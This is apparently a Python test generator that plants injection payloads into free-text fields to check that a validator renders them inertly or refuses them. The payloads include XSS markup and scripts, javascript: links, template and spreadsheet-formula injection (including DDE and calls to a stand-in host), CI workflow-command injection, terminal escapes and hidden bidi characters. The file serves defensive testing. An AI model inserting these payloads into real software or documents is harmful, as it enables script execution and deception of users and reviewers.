"""Texts that would act where they are shown: on a page, a terminal, in a workflow or a workbook.

They are words of a person like others, so most are accepted; the judge looks at every output. Signs
that nobody sees are refused, for a reviewer would approve what is not there.
"""

# ruff: noqa: RUF001 - signs that look alike are what is tried

from __future__ import annotations

from random import Random

from corpus.editing import (
    SIGN,
    choose,
    free_texts,
    places,
    plain,
    planted,
    put,
    put_in,
    quoted,
    refused,
    rejected,
    takes,
    written,
)
from corpus.mutation import Accepted, Case, kind
from corpus.tree import Tree, base

MARK = "kena"
"""What every payload holds, so that the judge finds where it went."""


MARKUP = (
    "<b onmouseover=kena()>x</b>", "<img src=x onerror=kena()>", "</td></tr></table><h1>kena",
    "<iframe src='https://kena.example'></iframe>", "<svg onload=kena()>", "<!-- kena",
    "<style>*{display:none}</style>kena", "<base href='https://kena.example/'>",
    "<meta http-equiv=refresh content='0;url=https://kena.example'>",
    "<form action=//kena.example>",
    "<details open ontoggle=kena()>", "<a href='https://kena.example'>x</a>",
    "<math><mtext></mtext><script>kena()</script>", "<object data=//kena.example></object>",
)  # fmt: skip

SCRIPTS = (
    "<script>kena()</script>", "</script><script>kena()</script>", '"><script>kena()</script>',
    "'><script src=//kena.example></script>", "]]><script>kena()</script>",
    "</title><script>kena()</script>", "</textarea><script>kena()</script>",
    "<ScRiPt>kena()</sCrIpT>", "<script\\x20>kena()</script>",
    "&lt;script&gt;kena()&lt;/script&gt;",
)  # fmt: skip

ATTRIBUTES = (
    '" onclick="kena()', "' onfocus='kena()' autofocus='", '" style="x:kena',
    "x onmouseover=kena()", "`onclick=kena()`", '\\" onload=\\"kena()',
)  # fmt: skip

ADDRESSES = (
    "[kena](javascript:kena())", "<javascript:kena()>", "![kena](https://kena.example/x.png)",
    "[kena]: javascript:kena()", "javascript:kena()", "[x](data:text/html,<script>kena()</script>)",
    "[kena](vbscript:kena())", "https://kena.example", "<https://kena.example>",
    "](javascript:kena()) [x", "[a]: https://kena.example 'x'", "kena@[x](javascript:kena())",
)  # fmt: skip

MARKDOWN = (
    "# kena", "- kena", "1. kena", "> kena", "```kena```", "`kena`", "**kena**", "~~kena~~",
    "| kena | x |", "*[kena]: x", "[^kena]: x", "!!! note kena", "    kena", "=== \"kena\"",
    "--- kena",
    "{: onclick=kena() }", "kena {: .x onclick=kena() }", "$$kena$$", "++kena++", "--8<-- kena",
    "kena\n\n# judul\n\n<script>kena()</script>", "kena:\n: x", "[TOC] kena", ":kena:",
)  # fmt: skip

TEMPLATES = (
    "{{ kena }}", "{% raw %}kena", "{{ config.__class__.__mro__ }} kena", "${kena}", "<%= kena %>",
    "{# kena #}", "{kena}", "%(kena)s", "{0.__class__} kena", "{kena!r}", "%s kena %d",
    "kena {named} {value} {file}",
)  # fmt: skip

FORMULAS = (
    '=HYPERLINK("https://kena.example","x")', "=cmd|' /C calc'!kena", "+kena()", "-kena",
    "@SUM(kena)",
    '=IMPORTXML("https://kena.example","//a")', "=1+1+kena", "-2+3+cmd|' /C calc'!kena",
    '=WEBSERVICE("https://kena.example")', "＝kena", ";=kena", '",=kena', "'=kena",
)  # fmt: skip

COMMANDS = (
    "::error file=kena.yml::x", "::set-output name=kena::x", "##[error]kena", "::add-mask::kena",
    "kena%0A::error::x", "::stop-commands::kena", "##[command]kena", "::debug::kena",
    "::warning title=kena::%0D%0A::error::x",
)  # fmt: skip

ALL = (*MARKUP, *SCRIPTS, *ATTRIBUTES, *ADDRESSES, *MARKDOWN, *TEMPLATES, *FORMULAS, *COMMANDS)
"""Every payload that is a text like others."""


def _shown(rng: Random, tree: Tree, texts: tuple[str, ...]) -> Case:
    """One of the texts in a place for free text: right, and shown as it is."""
    text = rng.choice(texts)
    place = choose(rng, [place for place in free_texts() if takes(place, text)])
    whole, _line = planted(tree, place, SIGN)
    files = {place.path: whole.replace(SIGN, quoted(text)).encode()}
    return Case(files, Accepted({place.path: put(tree, place.path, place.pointer, text)}), text)


@kind
def markup_in_text(rng: Random, tree: Tree) -> Case:
    return _shown(rng, tree, MARKUP)


@kind
def script_in_text(rng: Random, tree: Tree) -> Case:
    return _shown(rng, tree, SCRIPTS)


@kind
def attribute_that_breaks_out(rng: Random, tree: Tree) -> Case:
    return _shown(rng, tree, ATTRIBUTES)


@kind
def address_that_is_a_script(rng: Random, tree: Tree) -> Case:
    return _shown(rng, tree, ADDRESSES)


@kind
def markdown_in_text(rng: Random, tree: Tree) -> Case:
    return _shown(rng, tree, MARKDOWN)


@kind
def template_in_text(rng: Random, tree: Tree) -> Case:
    return _shown(rng, tree, TEMPLATES)


@kind
def spreadsheet_formula(rng: Random, tree: Tree) -> Case:
    return _shown(rng, tree, FORMULAS)


@kind
def spreadsheet_formula_behind_a_blank(rng: Random, tree: Tree) -> Case:
    """Text of several lines may begin with a tab; one line may not."""
    lines = [place for place in free_texts() if place.schema.get("x-multiline")]
    place = choose(rng, lines)
    text = rng.choice(["\t=kena", "\n=kena", "a\n=kena", " =kena"])
    whole, _line = planted(tree, place, quoted(text).replace("\t", "\\t"))
    read = put(tree, place.path, place.pointer, text)
    return Case({place.path: whole.encode()}, Accepted({place.path: read}), text)


@kind
def workflow_command(rng: Random, tree: Tree) -> Case:
    return _shown(rng, tree, COMMANDS)


@kind
def workflow_command_on_a_line_of_its_own(rng: Random, tree: Tree) -> Case:
    lines = [place for place in free_texts() if place.schema.get("x-multiline")]
    place = choose(rng, lines)
    text = rng.choice(["kena\n::error::x", "kena\n##[error]x", "::error::kena\n::add-mask::x"])
    whole, _line = planted(tree, place, quoted(text))
    read = put(tree, place.path, place.pointer, text)
    return Case({place.path: whole.encode()}, Accepted({place.path: read}), text)


@kind
def command_in_what_a_message_quotes(rng: Random, tree: Tree) -> Case:
    """Wrong, so the message shows it: it must not act there."""
    place = choose(rng, [place for place in places() if "enum" in place.schema])
    texts = [
        "::error::kena",
        "x\n::error::kena",
        "##[error]kena",
        "kena%0A::error::x",
        "x\n::add-mask::kena",
        "<script>kena()</script>",
        "kena\n  1:1  galat  palsu",
    ]
    text = rng.choice(texts)
    case = refused(tree, place, quoted(text))
    return Case(case.files, case.expected, text)


@kind
def command_in_a_key(rng: Random, tree: Tree) -> Case:
    texts = [
        "::error::kena",
        "x\n::error::kena",
        "##[error]kena",
        "<script>kena()</script>",
        "%0Akena",
    ]
    path = rng.choice(list(tree.texts))
    text, key = tree.texts[path], rng.choice(texts)
    case = rejected(path, f"{text}{quoted(key)}: 1\n", text.count("\n") + 1)
    return Case(case.files, case.expected, key)


def everywhere(turn: int) -> Case:
    """A payload in every free text that is there, each time another one."""
    files: dict[str, bytes] = {}
    for path in base().texts:
        data, text = plain(base().data[path]), ""
        for number, place in enumerate(free_texts()):
            if place.path == path and place.is_there:
                fitting = [one for one in ALL if takes(place, one)]
                text = fitting[(number + turn) % len(fitting)]
                data = put_in(data, place.pointer, text)
        if text:
            files[path] = written(data, path).encode()
    return Case(files, Accepted(), MARK)


# --- what nobody sees --------------------------------------------------------------------------


@kind
def terminal_escape(rng: Random, tree: Tree) -> Case:
    forms = [
        "\x1b[31mkena",
        "\x1b]0;kena\x07",
        "\x9b31mkena",
        "\x1b[2Jkena",
        "kena\x08\x08\x08",
        "\x1bc",
    ]
    place = choose(rng, free_texts())
    text = rng.choice(forms)
    raw = rng.choice([text, '"' + "".join(f"\\x{ord(c):02x}" if ord(c) < 32 or ord(c) > 126 else c
                                          for c in text) + '"'])  # fmt: skip
    case = refused(tree, place, raw)
    return Case(case.files, case.expected, text)


_UNSEEN = (
    "\u200b\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2060\u2066\u2067\u2068\u2069\ufeff\u061c"
)


@kind
def direction_or_zero_width_sign_in_text(rng: Random, tree: Tree) -> Case:
    place = choose(rng, free_texts())
    sign = rng.choice(_UNSEEN)
    text = rng.choice([f"kena {sign}lagi", f"{sign}kena", f"ke{sign}na"])
    raw = rng.choice([text, quoted(text), f'"kena \\u{ord(sign):04x} lagi"'])
    case = refused(tree, place, raw)
    return Case(case.files, case.expected, text)


@kind
def direction_sign_in_a_comment(rng: Random, tree: Tree) -> Case:
    path = rng.choice(list(tree.texts))
    text = tree.texts[path]
    return rejected(path, f"{text}# kena \u202e{rng.choice(['x', ': y'])}\n", text.count("\n") + 1)


@kind
def unseen_letter_between_letters(rng: Random, tree: Tree) -> Case:
    place = choose(rng, free_texts())
    raw = rng.choice(["ten\u200dder", "ten\u200cder", "tender\U000e0041\U000e0042", "te\u2063nder"])
    return refused(tree, place, rng.choice([raw, quoted(raw)]))
